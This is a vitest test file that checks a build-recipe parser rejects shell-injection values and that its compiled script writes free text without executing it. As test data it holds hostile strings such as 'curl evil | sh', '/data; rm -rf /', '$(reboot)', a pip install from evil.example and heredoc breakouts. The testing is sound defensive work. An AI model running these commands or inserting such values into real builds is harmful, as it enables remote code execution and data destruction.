import { existsSync, mkdtempSync, readdirSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { compileRecipe } from '../../../layers/core/recipe/compile';
import { parseRecipe, type RecipeInput } from '../../../layers/core/recipe/schema';
import { pathsOf, runFileWrites } from './support';

const minimal = { name: 'intro-course', baseImage: 'ami-0123456789abcdef0' };

function recipe(overrides: Record<string, unknown>): RecipeInput {
  return { ...minimal, ...overrides } as RecipeInput;
}

describe('parseRecipe refuses values that would smuggle shell into the build script', () => {
  it.each([
    [
      'an apt package with a command',
      { environment: { apt: ['numpy; curl evil | sh'] } },
      'environment.apt[0]',
    ],
    [
      'an apt package that is an option',
      { environment: { apt: ['--allow-unauthenticated'] } },
      'environment.apt[0]',
    ],
    [
      'an apt package with a substitution',
      { environment: { apt: ['jq$(reboot)'] } },
      'environment.apt[0]',
    ],
    [
      'a pip requirement with a command',
      { environment: { pip: ['numpy; curl evil | sh'] } },
      'environment.pip[0]',
    ],
    [
      'a pip requirement with a marker',
      { environment: { pip: ['numpy;python_version<"3.12"'] } },
      'environment.pip[0]',
    ],
    [
      'a pip requirement with a URL',
      { environment: { pip: ['numpy@https://evil.example/numpy.whl'] } },
      'environment.pip[0]',
    ],
    [
      'a pip option',
      { environment: { pip: ['--index-url=https://evil.example'] } },
      'environment.pip[0]',
    ],
    [
      'a pip requirement with a space',
      { environment: { pip: ['numpy >=1'] } },
      'environment.pip[0]',
    ],
    [
      'a CRAN package with R code',
      { environment: { r: { cran: ["x'); system('id"] } } },
      'environment.r.cran[0]',
    ],
    [
      'a Bioconductor package with a substitution',
      { environment: { r: { bioconductor: ['$(reboot)'] } } },
      'environment.r.bioconductor[0]',
    ],
    [
      'a mount point with a substitution',
      { volumes: [{ device: '/dev/sdf', sizeGiB: 1, mountPoint: '/mnt/$(reboot)' }] },
      'volumes[0].mountPoint',
    ],
    [
      'a mount point with a command',
      { volumes: [{ device: '/dev/sdf', sizeGiB: 1, mountPoint: '/data; rm -rf /' }] },
      'volumes[0].mountPoint',
    ],
    [
      'a mount point that climbs out',
      { volumes: [{ device: '/dev/sdf', sizeGiB: 1, mountPoint: '/mnt/../etc' }] },
      'volumes[0].mountPoint',
    ],
    [
      'a mount point over the system',
      { volumes: [{ device: '/dev/sdf', sizeGiB: 1, mountPoint: '/usr/local' }] },
      'volumes[0].mountPoint',
    ],
    [
      'the root as a mount point',
      { volumes: [{ device: '/dev/sdf', sizeGiB: 1, mountPoint: '/' }] },
      'volumes[0].mountPoint',
    ],
    [
      '/var as a mount point',
      { volumes: [{ device: '/dev/sdf', sizeGiB: 1, mountPoint: '/var' }] },
      'volumes[0].mountPoint',
    ],
    ['root as the Jupyter user', { user: 'root' }, 'user'],
    ['a system account as the Jupyter user', { user: 'www-data' }, 'user'],
    ['a user name with a command', { user: 'student;reboot' }, 'user'],
    ['a user name with a substitution', { user: 's$(id)' }, 'user'],
    ['a name with a command', { name: 'course;reboot' }, 'name'],
    [
      'a reserved tag key',
      { tags: { 'aws:cloudformation:stack-name': 'x' } },
      'tags.aws:cloudformation:stack-name',
    ],
    ['a bakehouse tag key', { tags: { 'bakehouse:kind': 'seat' } }, 'tags.bakehouse:kind'],
    ['a tag value with a substitution', { tags: { course: '$(reboot)' } }, 'tags.course'],
    [
      'a postBuild with a NUL byte',
      { environment: { postBuild: 'echo \u0000' } },
      'environment.postBuild',
    ],
  ])('%s', (_what, overrides, path) => {
    // Act
    const paths = pathsOf(() => parseRecipe(recipe(overrides)));

    // Assess
    expect(paths).toEqual([path]);
  });
});

const CANARY = 'bakehouse-canary';

/** Payloads that would create the canary if any shell ran them while the script writes them. */
const PAYLOADS = [
  `$(touch ${CANARY})`,
  `\`touch ${CANARY}\``,
  `; touch ${CANARY}`,
  `'; touch ${CANARY}; '`,
  `\ntouch ${CANARY}\n`,
  `BAKEHOUSE_EOF\ntouch ${CANARY}\nBAKEHOUSE_EOF`,
  `no newline at the end $(touch ${CANARY})`,
];

describe('the compiled script writes free text byte for byte and runs none of it', () => {
  it.each(
    PAYLOADS.flatMap((payload) => [
      ['postBuild', payload],
      ['requirements', payload],
      ['conda', `name: course\n# ${payload.replaceAll('\n', ' ')}\n`],
    ]),
  )('%s holding %j', (field, text) => {
    // Prepare
    const { script } = compileRecipe(parseRecipe(recipe({ environment: { [field]: text } })));
    const dir = mkdtempSync(join(tmpdir(), 'bakehouse-injection-'));

    try {
      // Act
      const written = [...runFileWrites(script, dir).values()];

      // Assess
      expect(written).toContain(text);
      expect(existsSync(join(dir, CANARY))).toBe(false);
      expect(readdirSync(dir).every((name) => /^\d+$/.test(name))).toBe(true);
    } finally {
      rmSync(dir, { recursive: true, force: true });
    }
  });
});
